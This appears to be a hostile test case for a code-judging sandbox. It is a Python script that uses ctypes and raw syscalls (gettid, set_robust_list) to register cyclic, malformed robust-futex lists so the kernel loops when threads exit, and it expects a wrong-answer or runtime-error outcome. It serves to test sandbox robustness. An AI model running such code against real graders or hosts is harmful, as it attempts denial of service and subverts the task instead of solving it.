# Lists of locks that the kernel walks when a thread ends: cyclic, endless, into nowhere, over the interpreter's memory.
# never: the kernel walks for ever while the cell is being ended.
# expect: WA RTE
import ctypes
import threading

libc = ctypes.CDLL(None, use_errno=True)
KEPT = []


def ring(offset):
    head = (ctypes.c_uint64 * 3)()
    links = [(ctypes.c_uint64 * 4)() for _ in range(4000)]
    for one, other in zip(links, links[1:] + links[:1]):
        one[0] = ctypes.addressof(other)
        one[1] = one[2] = libc.syscall(186)  # as if this thread held it
    head[0], head[1], head[2] = ctypes.addressof(links[0]), offset & (2**64 - 1), ctypes.addressof(links[7])
    KEPT.append((head, links))
    return head


def leave(offset):
    libc.syscall(273, ring(offset), 24)


def solve(secret_of):
    threads = [threading.Thread(target=leave, args=(offset,)) for offset in (8, 16, 4, -8, 1 << 40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    leave(8)
    return None
